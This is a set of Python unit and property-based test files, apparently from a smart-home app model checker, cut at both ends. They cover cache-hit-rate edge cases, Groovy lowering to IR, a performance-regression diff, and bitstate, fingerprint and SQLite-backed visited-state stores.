        assert "alice" in payload["results"]


class TestCacheHitRateRegression:
    """``cache_hit_rate`` must be 0.0, never a ZeroDivisionError, when a
    run answers zero cache queries (e.g. a depth-0 run that never expands
    a state)."""

    def test_zero_lookup_run(self, alice_system):
        properties = select_relevant(alice_system, build_properties())
        result = ExplorationEngine(
            alice_system, properties,
            EngineOptions(max_events=0, successor_cache=False)).run()
        assert result.cache_hits == 0 and result.cache_misses == 0
        assert result.cache_hit_rate == 0.0
        result.summary()  # the formatted report must not raise either

    def test_fresh_result_object(self):
        assert ExplorationResult().cache_hit_rate == 0.0

    def test_empty_batch(self):
        batch = BatchResult()
        assert batch.cache_hits == 0
        assert batch.cache_hit_rate == 0.0

    def test_batch_of_zero_lookup_jobs(self):
        batch = BatchResult()
        batch.add("a", ExplorationResult())
        batch.add("b", ExplorationResult())
        assert batch.cache_hit_rate == 0.0

    def test_batch_aggregates_hits(self):
        batch = BatchResult()
        first, second = ExplorationResult(), ExplorationResult()
        first.cache_hits, first.cache_misses = 3, 1
        second.cache_hits, second.cache_misses = 1, 3
        batch.add("a", first)
        batch.add("b", second)
        assert batch.cache_hits == 4 and batch.cache_misses == 4
        assert batch.cache_hit_rate == 0.5
