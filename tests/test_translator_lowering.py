"""Unit tests for the lowering pass (AST -> checkable IR)."""

from repro.groovy import ast, parse
from repro.translator.lowering import lower_program


def lower(source):
    return lower_program(parse(source))


def first(source):
    return lower(source).statements[0]


class TestForLoops:
    def test_c_style_for_becomes_while(self):
        block = first("for (int i = 0; i < 3; i++) { foo(i) }")
        assert isinstance(block, ast.Block)
        init, loop = block.stmts
        assert isinstance(init, ast.VarDecl)
        assert isinstance(loop, ast.While)

    def test_update_appended_to_body(self):
        block = first("for (int i = 0; i < 3; i++) { foo(i) }")
        loop = block.stmts[1]
        last = loop.body.stmts[-1]
        assert isinstance(last, ast.Assign)

    def test_for_in_preserved(self):
        stmt = first("for (s in switches) { s.on() }")
        assert isinstance(stmt, ast.ForIn)

    def test_for_without_cond_gets_true(self):
        block = first("for (int i = 0; ; i++) { break }")
        loop = block.stmts[1]
        assert isinstance(loop.cond, ast.Literal)
        assert loop.cond.value is True


class TestCompoundAssignment:
    def test_plus_equals(self):
        stmt = first("x += 2")
        assert isinstance(stmt, ast.Assign)
        assert stmt.op == "="
        assert isinstance(stmt.value, ast.Binary)
        assert stmt.value.op == "+"

    def test_minus_equals(self):
        stmt = first("x -= 1")
        assert stmt.value.op == "-"

    def test_times_equals(self):
        assert first("x *= 3").value.op == "*"


class TestIncrementDecrement:
    def test_postfix_increment_statement(self):
        stmt = first("i++")
        assert isinstance(stmt, ast.Assign)
        assert stmt.value.op == "+"
        assert stmt.value.right.value == 1

    def test_postfix_decrement_statement(self):
        stmt = first("i--")
        assert stmt.value.op == "-"

    def test_property_increment(self):
        stmt = first("state.count++")
        assert isinstance(stmt, ast.Assign)
        assert isinstance(stmt.target, ast.Property)


class TestStructure:
    def test_method_bodies_lowered(self):
        program = lower("def f() { for (int i = 0; i < 2; i++) { g() } }")
        method = program.statements[0]
        assert isinstance(method, ast.MethodDef)
        inner = method.body.stmts[0]
        assert isinstance(inner, ast.Block)
        assert isinstance(inner.stmts[1], ast.While)

    def test_lowering_does_not_mutate_input(self):
        program = parse("x += 1")
        original = program.statements[0]
        lower_program(program)
        assert original.op == "+="  # input untouched

    def test_if_branches_lowered(self):
        stmt = first("if (a) { x += 1 } else { y++ }")
        assert stmt.then.stmts[0].op == "="
        assert isinstance(stmt.orelse.stmts[0], ast.Assign)

    def test_closure_bodies_lowered(self):
        stmt = first("items.each { x += 1 }")
        closure = stmt.value.closure
        assert closure.body.stmts[0].op == "="

    def test_switch_cases_lowered(self):
        source = 'switch (m) { case "a": x += 1\n break\n }'
        stmt = first(source)
        assert isinstance(stmt, ast.Switch)
        assert stmt.cases[0].body.stmts[0].op == "="
