"""The CI perf-regression diff over the Table-8 bench artifact."""

import importlib.util
import os

_SCRIPT = os.path.join(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__))), "benchmarks", "check_perf_regression.py")
_spec = importlib.util.spec_from_file_location("check_perf_regression",
                                               _SCRIPT)
check_perf_regression = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(check_perf_regression)


def _doc(trajectory_sps, compiled_sps, deep_sps=None):
    document = {
        "trajectory": [{"events": 3, "states_per_second": trajectory_sps}],
        "engine_modes": {"compiled": {"states_per_second": compiled_sps}},
    }
    if deep_sps is not None:
        document["deep_run"] = {
            "events": 4,  # scalar entries must be ignored, not crash
            "collapse": {"states_per_second": deep_sps},
        }
    return document


class TestCompare:
    def test_no_regression_within_threshold(self):
        regressions = check_perf_regression.compare(
            _doc(10000, 20000), _doc(8500, 17000))
        assert regressions == []

    def test_flags_mode_beyond_threshold(self):
        regressions = check_perf_regression.compare(
            _doc(10000, 20000, deep_sps=9000),
            _doc(10000, 15000, deep_sps=9000))
        assert [name for name, _, _ in regressions] == [
            "engine_modes.compiled"]

    def test_deep_run_modes_compared(self):
        regressions = check_perf_regression.compare(
            _doc(10000, 20000, deep_sps=10000),
            _doc(10000, 20000, deep_sps=1000))
        assert [name for name, _, _ in regressions] == ["deep_run.collapse"]

    def test_new_or_missing_modes_are_skipped(self):
        # a baseline without deep_run must not flag the fresh run's new
        # section, and vice versa
        assert check_perf_regression.compare(
            _doc(10000, 20000), _doc(10000, 20000, deep_sps=1)) == []
        assert check_perf_regression.compare(
            _doc(10000, 20000, deep_sps=1), _doc(10000, 20000)) == []

    def test_improvements_never_flagged(self):
        assert check_perf_regression.compare(
            _doc(10000, 20000), _doc(30000, 60000)) == []
