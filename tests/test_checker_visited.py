"""Unit + property-based tests for the visited-state stores."""

from hypothesis import given, settings
from hypothesis import strategies as st

import pytest

from repro.checker.visited import BitStateTable, ExactVisitedSet


class TestExactVisitedSet:
    def test_first_visit_not_seen(self):
        store = ExactVisitedSet()
        assert store.seen_before(("k",), 0) is False

    def test_revisit_same_depth_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 1) is True

    def test_revisit_deeper_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 3) is True

    def test_revisit_shallower_reexpanded(self):
        """A state first reached near the depth bound must be re-expanded
        when reached again closer to the root (bounded-search soundness)."""
        store = ExactVisitedSet()
        store.seen_before(("k",), 3)
        assert store.seen_before(("k",), 1) is False
        # and now the shallower depth is the recorded one
        assert store.seen_before(("k",), 2) is True

    def test_len_counts_distinct_keys(self):
        store = ExactVisitedSet()
        store.seen_before(("a",), 0)
        store.seen_before(("b",), 0)
        store.seen_before(("a",), 5)
        assert len(store) == 2


class TestBitStateTable:
    def test_first_visit_not_seen(self):
        table = BitStateTable(bits_log2=16)
        assert table.seen_before(("k",), 0) is False

    def test_revisit_seen(self):
        table = BitStateTable(bits_log2=16)
        table.seen_before(("k",), 0)
        assert table.seen_before(("k",), 0) is True

    def test_no_false_negatives(self):
        """A stored state is always reported seen (Spin's guarantee)."""
        table = BitStateTable(bits_log2=16)
        keys = [("state", i) for i in range(500)]
        for key in keys:
            table.seen_before(key, 0)
        assert all(table.seen_before(key, 0) for key in keys)

    def test_fill_ratio_grows(self):
        table = BitStateTable(bits_log2=12)
        assert table.fill_ratio == 0.0
        for index in range(100):
            table.seen_before(("s", index), 0)
        assert table.fill_ratio > 0.0

    def test_collision_counter(self):
        table = BitStateTable(bits_log2=8, hash_count=1)
        for index in range(1000):
            table.seen_before(("s", index), 0)
        # 256 bits, 1000 states: collisions are certain
        assert table.collisions > 0

    def test_bits_log2_bounds(self):
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=4)
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=40)

    def test_more_hashes_fewer_collisions(self):
        """Holzmann: double hashing improves coverage at equal memory."""
        single = BitStateTable(bits_log2=12, hash_count=1)
        double = BitStateTable(bits_log2=12, hash_count=3)
        keys = [("s", i) for i in range(300)]
        for key in keys:
            single.seen_before(key, 0)
            double.seen_before(key, 0)
        assert double.collisions <= single.collisions


# ---------------------------------------------------------------------------
# property-based
# ---------------------------------------------------------------------------

_KEYS = st.tuples(st.text(max_size=8), st.integers(0, 1000))


class TestStoreProperties:
    @given(st.lists(st.tuples(_KEYS, st.integers(0, 5)), max_size=60))
    def test_exact_store_monotone(self, operations):
        """Once a key is seen at depth d, it is seen at every depth >= d."""
        store = ExactVisitedSet()
        recorded = {}
        for key, depth in operations:
            expected_seen = key in recorded and recorded[key] <= depth
            assert store.seen_before(key, depth) == expected_seen
            if not expected_seen:
                recorded[key] = depth

    @given(st.lists(_KEYS, unique=True, max_size=80))
    def test_bitstate_never_forgets(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        for key in keys:
            assert table.seen_before(key, 0)

    @given(st.lists(_KEYS, unique=True, min_size=1, max_size=50))
    @settings(max_examples=30)
    def test_bitstate_stored_plus_collisions_is_total(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        assert table.stored + table.collisions == len(keys)
