"""Unit + property-based tests for the visited-state stores."""

import os
import random

from hypothesis import given, settings
from hypothesis import strategies as st

import pytest

from repro.checker.visited import BitStateTable, ExactVisitedSet
from repro.engine.visited import (
    BitStateVisitedSet,
    FingerprintVisitedSet,
    SpillVisitedStore,
)
from repro.model.state import ModelState


class TestExactVisitedSet:
    def test_first_visit_not_seen(self):
        store = ExactVisitedSet()
        assert store.seen_before(("k",), 0) is False

    def test_revisit_same_depth_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 1) is True

    def test_revisit_deeper_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 3) is True

    def test_revisit_shallower_reexpanded(self):
        """A state first reached near the depth bound must be re-expanded
        when reached again closer to the root (bounded-search soundness)."""
        store = ExactVisitedSet()
        store.seen_before(("k",), 3)
        assert store.seen_before(("k",), 1) is False
        # and now the shallower depth is the recorded one
        assert store.seen_before(("k",), 2) is True

    def test_len_counts_distinct_keys(self):
        store = ExactVisitedSet()
        store.seen_before(("a",), 0)
        store.seen_before(("b",), 0)
        store.seen_before(("a",), 5)
        assert len(store) == 2


class TestBitStateTable:
    def test_first_visit_not_seen(self):
        table = BitStateTable(bits_log2=16)
        assert table.seen_before(("k",), 0) is False

    def test_revisit_seen(self):
        table = BitStateTable(bits_log2=16)
        table.seen_before(("k",), 0)
        assert table.seen_before(("k",), 0) is True

    def test_no_false_negatives(self):
        """A stored state is always reported seen (Spin's guarantee)."""
        table = BitStateTable(bits_log2=16)
        keys = [("state", i) for i in range(500)]
        for key in keys:
            table.seen_before(key, 0)
        assert all(table.seen_before(key, 0) for key in keys)

    def test_fill_ratio_grows(self):
        table = BitStateTable(bits_log2=12)
        assert table.fill_ratio == 0.0
        for index in range(100):
            table.seen_before(("s", index), 0)
        assert table.fill_ratio > 0.0

    def test_collision_counter(self):
        table = BitStateTable(bits_log2=8, hash_count=1)
        for index in range(1000):
            table.seen_before(("s", index), 0)
        # 256 bits, 1000 states: collisions are certain
        assert table.collisions > 0

    def test_bits_log2_bounds(self):
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=4)
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=40)

    def test_more_hashes_fewer_collisions(self):
        """Holzmann: double hashing improves coverage at equal memory."""
        single = BitStateTable(bits_log2=12, hash_count=1)
        double = BitStateTable(bits_log2=12, hash_count=3)
        keys = [("s", i) for i in range(300)]
        for key in keys:
            single.seen_before(key, 0)
            double.seen_before(key, 0)
        assert double.collisions <= single.collisions

    def test_fill_ratio_capped_at_one_when_saturated(self):
        """Saturation regression: a hammered field reports exactly 1.0,
        never more (the telemetry warning keys off this number)."""
        table = BitStateTable(bits_log2=8, hash_count=4)
        for index in range(2000):
            table.seen_before(("s", index), 0)
        assert table.fill_ratio == 1.0


class TestFingerprintVisitedSet:
    """Regression coverage for the one-word depth-aware store."""

    def test_first_visit_not_seen(self):
        store = FingerprintVisitedSet()
        assert store.seen_before(0xDEAD, 0) is False

    def test_revisit_shallower_reexpanded(self):
        store = FingerprintVisitedSet()
        store.seen_before(0xDEAD, 3)
        assert store.seen_before(0xDEAD, 1) is False
        assert store.seen_before(0xDEAD, 2) is True

    def test_state_key_is_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "switch", "on")
        assert FingerprintVisitedSet.state_key(state) == state.fingerprint()


class TestStateKeyProtocol:
    """Each store projects states onto its own key form."""

    def test_exact_store_uses_canonical_key(self):
        state = ModelState()
        state.set_attribute("d", "lock", "locked")
        assert ExactVisitedSet().state_key(state) == state.canonical_key()

    def test_bitstate_uses_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "lock", "locked")
        assert BitStateTable.state_key(state) == state.fingerprint()

    def test_stats_shapes(self):
        exact, table = ExactVisitedSet(), BitStateTable(bits_log2=12)
        exact.seen_before(("k",), 0)
        table.seen_before(("k",), 0)
        exact_stats = exact.stats()
        assert exact_stats["stored"] == 1
        assert exact_stats["approx_bytes"] > 0
        assert exact_stats["bytes_per_state"] > 0
        stats = table.stats()
        assert stats["stored"] == 1 and stats["collisions"] == 0
        assert 0.0 < stats["fill_ratio"] < 1.0
        assert stats["approx_bytes"] == (1 << 12) // 8


class TestFillRatioCache:
    def test_cache_invalidated_by_stores(self):
        table = BitStateTable(bits_log2=12, hash_count=1)
        assert table.fill_ratio == 0.0
        table.seen_before(("a",), 0)
        first = table.fill_ratio
        assert first > 0.0
        assert table.fill_ratio == first  # served from cache
        table.seen_before(("b",), 0)
        assert table.fill_ratio >= first

    def test_matches_per_byte_popcount(self):
        table = BitStateTable(bits_log2=12)
        for index in range(200):
            table.seen_before(("s", index), 0)
        slow = sum(bin(b).count("1") for b in table._field) / float(table.bits)
        assert table.fill_ratio == slow


def _random_state(rng):
    """A ModelState built through the public mutators."""
    state = ModelState()
    for _ in range(rng.randrange(8)):
        state.set_attribute("dev%d" % rng.randrange(3),
                            rng.choice(["switch", "lock", "temp"]),
                            rng.choice(["on", "off", "locked", 55, 95]))
    if rng.random() < 0.5:
        state.mode = rng.choice(["Home", "Away", "Night"])
    for _ in range(rng.randrange(3)):
        state.app_state("app%d" % rng.randrange(2))["k%d" % rng.randrange(3)] = (
            rng.choice([1, "x", [1, 2], {"nested": True}]))
    for _ in range(rng.randrange(2)):
        state.add_schedule("app%d" % rng.randrange(2), "h", periodic=bool(rng.randrange(2)))
    return state


class TestFingerprintConsistency:
    """The collision-audit contract: equal canonical keys must imply
    equal fingerprints (the engine's stores rely on the implication)."""

    def test_equal_keys_equal_fingerprints_randomized(self):
        rng = random.Random(20260727)
        states = [_random_state(rng) for _ in range(120)]
        by_key = {}
        for state in states:
            by_key.setdefault(state.canonical_key(), []).append(state)
        for group in by_key.values():
            fingerprints = {state.fingerprint() for state in group}
            assert len(fingerprints) == 1

    def test_incremental_matches_from_scratch(self):
        """A fingerprint maintained through mutations equals the one a
        freshly canonicalized equal state computes."""
        rng = random.Random(7)
        for _ in range(60):
            state = _random_state(rng)
            state.fingerprint()  # settle caches mid-way
            state.set_attribute("dev0", "switch", "on")
            state.mode = "Night"
            clone = state.copy()
            clone.set_attribute("dev1", "lock", "unlocked")
            rebuilt = ModelState()
            for name, attrs in clone.devices.items():
                for attribute, value in attrs.items():
                    rebuilt.set_attribute(name, attribute, value)
            rebuilt.mode = clone.mode
            for name, mapping in clone.app_states.items():
                rebuilt.app_state(name).update(mapping)
            rebuilt.schedules = clone.schedules
            assert rebuilt.canonical_key() == clone.canonical_key()
            assert rebuilt.fingerprint() == clone.fingerprint()

    def test_copy_preserves_fingerprint(self):
        rng = random.Random(11)
        state = _random_state(rng)
        assert state.copy().fingerprint() == state.fingerprint()

    def test_distinct_states_distinct_fingerprints(self):
        a, b = ModelState(), ModelState()
        a.set_attribute("d", "switch", "on")
        b.set_attribute("d", "switch", "off")
        assert a.fingerprint() != b.fingerprint()


# ---------------------------------------------------------------------------
# property-based
# ---------------------------------------------------------------------------

_KEYS = st.tuples(st.text(max_size=8), st.integers(0, 1000))


class TestStoreProperties:
    @given(st.lists(st.tuples(_KEYS, st.integers(0, 5)), max_size=60))
    def test_exact_store_monotone(self, operations):
        """Once a key is seen at depth d, it is seen at every depth >= d."""
        store = ExactVisitedSet()
        recorded = {}
        for key, depth in operations:
            expected_seen = key in recorded and recorded[key] <= depth
            assert store.seen_before(key, depth) == expected_seen
            if not expected_seen:
                recorded[key] = depth

    @given(st.lists(_KEYS, unique=True, max_size=80))
    def test_bitstate_never_forgets(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        for key in keys:
            assert table.seen_before(key, 0)

    @given(st.lists(_KEYS, unique=True, min_size=1, max_size=50))
    @settings(max_examples=30)
    def test_bitstate_stored_plus_collisions_is_total(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        assert table.stored + table.collisions == len(keys)


# ---------------------------------------------------------------------------
# the swarm tier's stores: salted k-hash bitstate, disk-backed spill
# ---------------------------------------------------------------------------

_U64 = st.integers(0, (1 << 64) - 1)


class TestBitStateVisitedSet:
    """The salted fingerprint-keyed supertrace store of the swarm tier."""

    def test_constructor_bounds(self):
        with pytest.raises(ValueError):
            BitStateVisitedSet(bits_log2=2)
        with pytest.raises(ValueError):
            BitStateVisitedSet(hash_count=0)

    def test_state_key_is_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "switch", "on")
        assert BitStateVisitedSet.state_key(state) == state.fingerprint()

    def test_depth_is_ignored(self):
        """Spin-compatible partial coverage: no per-state depth, so even
        a *shallower* revisit is pruned (unlike the exact stores)."""
        store = BitStateVisitedSet(bits_log2=16)
        assert store.seen_before(0xBEEF, 3) is False
        assert store.seen_before(0xBEEF, 1) is True

    @given(st.lists(_U64, unique=True, max_size=120))
    def test_no_false_negatives_on_admitted_keys(self, keys):
        """A key the store admitted is never forgotten, at any depth."""
        store = BitStateVisitedSet(bits_log2=16)
        admitted = [key for key in keys if not store.seen_before(key, 0)]
        assert all(store.seen_before(key, 5) for key in admitted)

    @given(st.lists(_U64, unique=True, max_size=100))
    @settings(max_examples=30)
    def test_fill_ratio_monotone_and_bounded(self, keys):
        store = BitStateVisitedSet(bits_log2=8, hash_count=3)
        previous = 0.0
        for key in keys:
            store.seen_before(key, 0)
            assert previous <= store.fill_ratio <= 1.0
            previous = store.fill_ratio

    def test_fill_ratio_saturates_at_exactly_one(self):
        """Regression: two hashes landing on one bit within a single
        admission once double-counted the set-bit counter past 1.0."""
        store = BitStateVisitedSet(bits_log2=4, hash_count=4)
        for key in range(5000):
            store.seen_before(key * 0x9E3779B97F4A7C15 & ((1 << 64) - 1), 0)
        assert store.fill_ratio == 1.0

    def test_k_hashes_hit_distinct_positions(self):
        """Independence smoke: in a roomy field one key's k positions
        are k *different* bits (the whole point of multi-hash bitstate)."""
        positions = BitStateVisitedSet(bits_log2=20,
                                       hash_count=8).bit_positions(12345)
        assert len(set(positions)) == 8

    @given(_U64)
    @settings(max_examples=40)
    def test_salt_remaps_positions(self, key):
        """Distinct salts give swarm members independent miss patterns."""
        plain = BitStateVisitedSet(bits_log2=20, salt=0)
        salted = BitStateVisitedSet(bits_log2=20, salt=1)
        assert plain.bit_positions(key) != salted.bit_positions(key)

    def test_stats_and_distinct_count(self):
        store = BitStateVisitedSet(bits_log2=16)
        for key in (1, 2, 1):
            store.seen_before(key, 0)
        assert store.distinct_count() == 2  # the revisit is a collision
        stats = store.stats()
        assert stats["stored"] == 2 and stats["collisions"] == 1
        assert stats["approx_bytes"] == (1 << 16) // 8
        assert 0.0 < stats["fill_ratio"] <= 1.0
        assert stats["hash_count"] == 3 and stats["salt"] == 0


class TestSpillVisitedStore:
    """The disk-backed store: FingerprintVisitedSet semantics on SQLite."""

    def test_protocol_round_trip(self):
        store = SpillVisitedStore()
        try:
            assert store.seen_before(0xDEAD, 3) is False
            assert store.seen_before(0xDEAD, 3) is True
            # shallower revisit re-expands and lowers the stored minimum
            assert store.seen_before(0xDEAD, 1) is False
            assert store.seen_before(0xDEAD, 2) is True
            assert store.distinct_count() == 1
        finally:
            store.close()

    def test_state_key_is_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "switch", "on")
        assert SpillVisitedStore.state_key(state) == state.fingerprint()

    def test_spill_reload_round_trip(self, tmp_path):
        """The on-disk file is the store: close and reopen preserves the
        distinct count and the recorded minimum depths - including keys
        above 2^63, which must survive the signed-integer mapping."""
        path = str(tmp_path / "visited.sqlite")
        keys = [7, 2**63 + 5, 2**64 - 1] + list(range(100, 300))
        store = SpillVisitedStore(path)
        for key in keys:
            assert store.seen_before(key, 2) is False
        store.close()
        reopened = SpillVisitedStore(path)
        try:
            assert reopened.distinct_count() == len(keys)
            assert all(reopened.seen_before(key, 2) for key in keys)
            assert reopened.seen_before(keys[0], 1) is False  # depth-aware
        finally:
            reopened.close()

    def test_write_buffer_flushes_at_the_batch_size(self, tmp_path):
        path = str(tmp_path / "visited.sqlite")
        store = SpillVisitedStore(path)
        store.FLUSH_BATCH = 8
        for key in range(9):
            store.seen_before(key, 0)
        assert len(store._pending) < 8  # the batch went to SQLite
        rows = store._conn.execute("SELECT COUNT(*) FROM visited").fetchone()
        assert rows[0] >= 8
        store.close()

    def test_bounded_cache_reads_fall_back_to_the_database(self):
        store = SpillVisitedStore(cache_limit=2)
        try:
            store.FLUSH_BATCH = 1  # every write lands on disk immediately
            for key in range(10):
                store.seen_before(key, 1)
            assert not store._pending and len(store._cache) <= 2
            assert store.seen_before(0, 1) is True  # answered by SQLite
            assert store.seen_before(1, 0) is False  # depth-aware via disk
        finally:
            store.close()

    def test_owned_temp_dir_is_removed_on_close(self):
        store = SpillVisitedStore()
        directory = store._own_dir
        store.seen_before(1, 0)
        assert directory and os.path.isdir(directory)
        store.close()
        assert not os.path.exists(directory)

    def test_stats_shape(self):
        store = SpillVisitedStore()
        try:
            for key in range(50):
                store.seen_before(key, 0)
            stats = store.stats()
            assert stats["stored"] == 50
            assert stats["disk_bytes"] > 0  # stats() flushes first
            assert stats["approx_bytes"] >= stats["disk_bytes"]
            assert stats["bytes_per_state"] > 0
            assert stats["path"] == store.path
        finally:
            store.close()

    @given(st.lists(st.tuples(_U64, st.integers(0, 5)), max_size=60))
    @settings(max_examples=25, deadline=None)
    def test_matches_the_exact_store_verdicts(self, operations):
        """Protocol conformance: for any operation sequence the spill
        store answers exactly like the in-RAM depth-aware exact set."""
        spill = SpillVisitedStore()
        exact = ExactVisitedSet()
        try:
            for index, (key, depth) in enumerate(operations):
                assert (spill.seen_before(key, depth)
                        == exact.seen_before(key, depth))
                if index == len(operations) // 2:
                    spill.flush()  # exercise the database path mid-way
            assert spill.distinct_count() == len(exact)
        finally:
            spill.close()
