"""Unit + property-based tests for the visited-state stores."""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

import pytest

from repro.checker.visited import BitStateTable, ExactVisitedSet
from repro.engine.visited import FingerprintVisitedSet
from repro.model.state import ModelState


class TestExactVisitedSet:
    def test_first_visit_not_seen(self):
        store = ExactVisitedSet()
        assert store.seen_before(("k",), 0) is False

    def test_revisit_same_depth_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 1) is True

    def test_revisit_deeper_seen(self):
        store = ExactVisitedSet()
        store.seen_before(("k",), 1)
        assert store.seen_before(("k",), 3) is True

    def test_revisit_shallower_reexpanded(self):
        """A state first reached near the depth bound must be re-expanded
        when reached again closer to the root (bounded-search soundness)."""
        store = ExactVisitedSet()
        store.seen_before(("k",), 3)
        assert store.seen_before(("k",), 1) is False
        # and now the shallower depth is the recorded one
        assert store.seen_before(("k",), 2) is True

    def test_len_counts_distinct_keys(self):
        store = ExactVisitedSet()
        store.seen_before(("a",), 0)
        store.seen_before(("b",), 0)
        store.seen_before(("a",), 5)
        assert len(store) == 2


class TestBitStateTable:
    def test_first_visit_not_seen(self):
        table = BitStateTable(bits_log2=16)
        assert table.seen_before(("k",), 0) is False

    def test_revisit_seen(self):
        table = BitStateTable(bits_log2=16)
        table.seen_before(("k",), 0)
        assert table.seen_before(("k",), 0) is True

    def test_no_false_negatives(self):
        """A stored state is always reported seen (Spin's guarantee)."""
        table = BitStateTable(bits_log2=16)
        keys = [("state", i) for i in range(500)]
        for key in keys:
            table.seen_before(key, 0)
        assert all(table.seen_before(key, 0) for key in keys)

    def test_fill_ratio_grows(self):
        table = BitStateTable(bits_log2=12)
        assert table.fill_ratio == 0.0
        for index in range(100):
            table.seen_before(("s", index), 0)
        assert table.fill_ratio > 0.0

    def test_collision_counter(self):
        table = BitStateTable(bits_log2=8, hash_count=1)
        for index in range(1000):
            table.seen_before(("s", index), 0)
        # 256 bits, 1000 states: collisions are certain
        assert table.collisions > 0

    def test_bits_log2_bounds(self):
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=4)
        with pytest.raises(ValueError):
            BitStateTable(bits_log2=40)

    def test_more_hashes_fewer_collisions(self):
        """Holzmann: double hashing improves coverage at equal memory."""
        single = BitStateTable(bits_log2=12, hash_count=1)
        double = BitStateTable(bits_log2=12, hash_count=3)
        keys = [("s", i) for i in range(300)]
        for key in keys:
            single.seen_before(key, 0)
            double.seen_before(key, 0)
        assert double.collisions <= single.collisions


class TestFingerprintVisitedSet:
    """Regression coverage for the one-word depth-aware store."""

    def test_first_visit_not_seen(self):
        store = FingerprintVisitedSet()
        assert store.seen_before(0xDEAD, 0) is False

    def test_revisit_shallower_reexpanded(self):
        store = FingerprintVisitedSet()
        store.seen_before(0xDEAD, 3)
        assert store.seen_before(0xDEAD, 1) is False
        assert store.seen_before(0xDEAD, 2) is True

    def test_state_key_is_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "switch", "on")
        assert FingerprintVisitedSet.state_key(state) == state.fingerprint()


class TestStateKeyProtocol:
    """Each store projects states onto its own key form."""

    def test_exact_store_uses_canonical_key(self):
        state = ModelState()
        state.set_attribute("d", "lock", "locked")
        assert ExactVisitedSet().state_key(state) == state.canonical_key()

    def test_bitstate_uses_fingerprint(self):
        state = ModelState()
        state.set_attribute("d", "lock", "locked")
        assert BitStateTable.state_key(state) == state.fingerprint()

    def test_stats_shapes(self):
        exact, table = ExactVisitedSet(), BitStateTable(bits_log2=12)
        exact.seen_before(("k",), 0)
        table.seen_before(("k",), 0)
        exact_stats = exact.stats()
        assert exact_stats["stored"] == 1
        assert exact_stats["approx_bytes"] > 0
        assert exact_stats["bytes_per_state"] > 0
        stats = table.stats()
        assert stats["stored"] == 1 and stats["collisions"] == 0
        assert 0.0 < stats["fill_ratio"] < 1.0
        assert stats["approx_bytes"] == (1 << 12) // 8


class TestFillRatioCache:
    def test_cache_invalidated_by_stores(self):
        table = BitStateTable(bits_log2=12, hash_count=1)
        assert table.fill_ratio == 0.0
        table.seen_before(("a",), 0)
        first = table.fill_ratio
        assert first > 0.0
        assert table.fill_ratio == first  # served from cache
        table.seen_before(("b",), 0)
        assert table.fill_ratio >= first

    def test_matches_per_byte_popcount(self):
        table = BitStateTable(bits_log2=12)
        for index in range(200):
            table.seen_before(("s", index), 0)
        slow = sum(bin(b).count("1") for b in table._field) / float(table.bits)
        assert table.fill_ratio == slow


def _random_state(rng):
    """A ModelState built through the public mutators."""
    state = ModelState()
    for _ in range(rng.randrange(8)):
        state.set_attribute("dev%d" % rng.randrange(3),
                            rng.choice(["switch", "lock", "temp"]),
                            rng.choice(["on", "off", "locked", 55, 95]))
    if rng.random() < 0.5:
        state.mode = rng.choice(["Home", "Away", "Night"])
    for _ in range(rng.randrange(3)):
        state.app_state("app%d" % rng.randrange(2))["k%d" % rng.randrange(3)] = (
            rng.choice([1, "x", [1, 2], {"nested": True}]))
    for _ in range(rng.randrange(2)):
        state.add_schedule("app%d" % rng.randrange(2), "h", periodic=bool(rng.randrange(2)))
    return state


class TestFingerprintConsistency:
    """The collision-audit contract: equal canonical keys must imply
    equal fingerprints (the engine's stores rely on the implication)."""

    def test_equal_keys_equal_fingerprints_randomized(self):
        rng = random.Random(20260727)
        states = [_random_state(rng) for _ in range(120)]
        by_key = {}
        for state in states:
            by_key.setdefault(state.canonical_key(), []).append(state)
        for group in by_key.values():
            fingerprints = {state.fingerprint() for state in group}
            assert len(fingerprints) == 1

    def test_incremental_matches_from_scratch(self):
        """A fingerprint maintained through mutations equals the one a
        freshly canonicalized equal state computes."""
        rng = random.Random(7)
        for _ in range(60):
            state = _random_state(rng)
            state.fingerprint()  # settle caches mid-way
            state.set_attribute("dev0", "switch", "on")
            state.mode = "Night"
            clone = state.copy()
            clone.set_attribute("dev1", "lock", "unlocked")
            rebuilt = ModelState()
            for name, attrs in clone.devices.items():
                for attribute, value in attrs.items():
                    rebuilt.set_attribute(name, attribute, value)
            rebuilt.mode = clone.mode
            for name, mapping in clone.app_states.items():
                rebuilt.app_state(name).update(mapping)
            rebuilt.schedules = clone.schedules
            assert rebuilt.canonical_key() == clone.canonical_key()
            assert rebuilt.fingerprint() == clone.fingerprint()

    def test_copy_preserves_fingerprint(self):
        rng = random.Random(11)
        state = _random_state(rng)
        assert state.copy().fingerprint() == state.fingerprint()

    def test_distinct_states_distinct_fingerprints(self):
        a, b = ModelState(), ModelState()
        a.set_attribute("d", "switch", "on")
        b.set_attribute("d", "switch", "off")
        assert a.fingerprint() != b.fingerprint()


# ---------------------------------------------------------------------------
# property-based
# ---------------------------------------------------------------------------

_KEYS = st.tuples(st.text(max_size=8), st.integers(0, 1000))


class TestStoreProperties:
    @given(st.lists(st.tuples(_KEYS, st.integers(0, 5)), max_size=60))
